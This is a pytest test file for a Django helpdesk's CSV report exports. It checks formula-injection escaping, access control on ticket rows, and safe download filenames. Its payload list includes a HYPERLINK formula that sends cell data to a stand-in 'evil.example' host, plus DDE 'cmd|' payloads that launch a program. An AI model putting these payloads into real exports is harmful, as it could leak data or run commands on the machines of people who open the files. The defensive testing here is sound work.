"""Attacks on the reports' CSV downloads (?format=csv): formula cells (CSV
injection) in every text that reaches a sheet, in error CSVs too, and rows
of tickets the reader may not see."""

from __future__ import annotations

import csv
import io

import pytest
from django.contrib.auth.models import User
from django.utils import timezone

from helpdesk.reports.export import csv_lines, neutralise
from helpdesk.tickets.services import ticket_assign
from tests.conftest import api_client_for
from tests.factories import make_customer, make_ticket

FORMULAS = (
    '=HYPERLINK("http://evil.example?"&A1,"Click")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "-1e10",
    "-١٢",  # Arabic-Indic digits: not a plain number to a spreadsheet
    "-12.5\n=1+1",
)


def sheet(content: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(content.decode())))


def cells(content: bytes) -> list[str]:
    return [cell for row in sheet(content) for cell in row]


def unsafe(cell: str) -> bool:
    """A cell a spreadsheet would run as a formula."""
    return cell[:1] in ("=", "+", "@", "\t", "\r") or (cell[:1] == "-" and not _plain_number(cell))


def _plain_number(cell: str) -> bool:
    head, _, tail = cell[1:].partition(".")
    return head.isascii() and head.isdigit() and (not tail or (tail.isascii() and tail.isdigit()))


@pytest.mark.parametrize("payload", FORMULAS)
def test_every_formula_start_is_written_as_text(payload):
    [line] = list(csv_lines([[payload]]))
    [[cell]] = sheet(line.encode())

    assert cell == "'" + payload and not unsafe(cell)


@pytest.mark.parametrize("number", [-12.5, "-12.5", "-4.20", 0, "0", "12"])
def test_plain_numbers_stay_numbers(number):
    assert neutralise(number) == number


@pytest.fixture
def named(logistics, logistics_agent, customer):
    """A team and an agent whose names are formulas, with a ticket this period."""
    logistics.name = FORMULAS[0]
    logistics.save()
    User.objects.filter(pk=logistics_agent.user_id).update(first_name=FORMULAS[1], last_name=FORMULAS[4])
    ticket = make_ticket(customer, logistics)
    ticket_assign(ticket=ticket, actor=logistics_agent, assignee=logistics_agent)
    return ticket


@pytest.mark.parametrize("name", ["volume", "people", "speed", "satisfaction", "retention"])
def test_formula_names_in_reports_are_neutralised_in_their_csv(manager, named, name):
    response = api_client_for(manager).get(f"/api/v1/reports/{name}/", {"format": "csv"})

    assert response.status_code == 200 and response["Content-Type"].startswith("text/csv")
    assert not [cell for cell in cells(response.content) if unsafe(cell)]


def test_formula_names_in_ticket_rows_are_neutralised(manager, named):
    response = api_client_for(manager).get("/api/v1/reports/tickets/", {"format": "csv"})

    rows = cells(response.getvalue())
    assert not [cell for cell in rows if unsafe(cell)]
    assert any(cell.startswith("'=cmd|") for cell in rows)


@pytest.mark.parametrize(
    "params",
    [
        {"from": "=1+1", "format": "csv"},
        {"team": '=HYPERLINK("http://evil")', "format": "csv"},
        {'=HYPERLINK("http://evil")': "1", "format": "csv"},
        {"@SUM(A1)": "x", "format": "csv"},
    ],
    ids=["bad-date", "bad-team", "formula-parameter", "at-parameter"],
)
def test_error_csvs_neutralise_what_the_request_put_in_them(manager, params):
    for path in ("/api/v1/reports/volume/", "/api/v1/reports/tickets/"):
        response = api_client_for(manager).get(path, params)

        assert response.status_code == 400 and response["Content-Type"].startswith("text/csv")
        assert not [cell for cell in cells(response.content) if unsafe(cell)], response.content


def test_a_team_leads_csv_holds_only_their_teams_tickets(team_lead, logistics, returns, shop):
    mine = make_ticket(make_customer(shop), logistics)
    theirs = make_ticket(make_customer(shop, name="Eve Other"), returns)

    for params in (
        {"format": "csv"},
        {"format": "csv", "team": "returns"},
        {"format": "csv", "customer": str(theirs.customer_id)},
    ):
        rows = sheet(api_client_for(team_lead).get("/api/v1/reports/tickets/", params).getvalue())
        ids = {row[0] for row in rows[1:]}
        assert str(theirs.pk) not in ids, params
    assert str(mine.pk) in {
        row[0]
        for row in sheet(api_client_for(team_lead).get("/api/v1/reports/tickets/", {"format": "csv"}).getvalue())[1:]
    }


def test_a_plain_agent_or_a_visitor_gets_no_csv(logistics_agent, anonymous_client, customer, logistics):
    make_ticket(customer, logistics)

    as_agent = api_client_for(logistics_agent).get("/api/v1/reports/tickets/", {"format": "csv"})
    anonymous = anonymous_client.get("/api/v1/reports/volume/", {"format": "csv"})

    assert as_agent.status_code == 403 and anonymous.status_code == 401
    for response in (as_agent, anonymous):
        assert str(timezone.localdate().year) not in response.content.decode()
        assert "Content-Disposition" not in response


def test_the_download_name_is_built_from_checked_values_only(manager):
    response = api_client_for(manager).get(
        "/api/v1/reports/volume/", {"from": "2025-03-01", "to": "2025-03-10", "format": "csv"}
    )

    assert response["Content-Disposition"] == 'attachment; filename="volume-2025-03-01-2025-03-10.csv"'
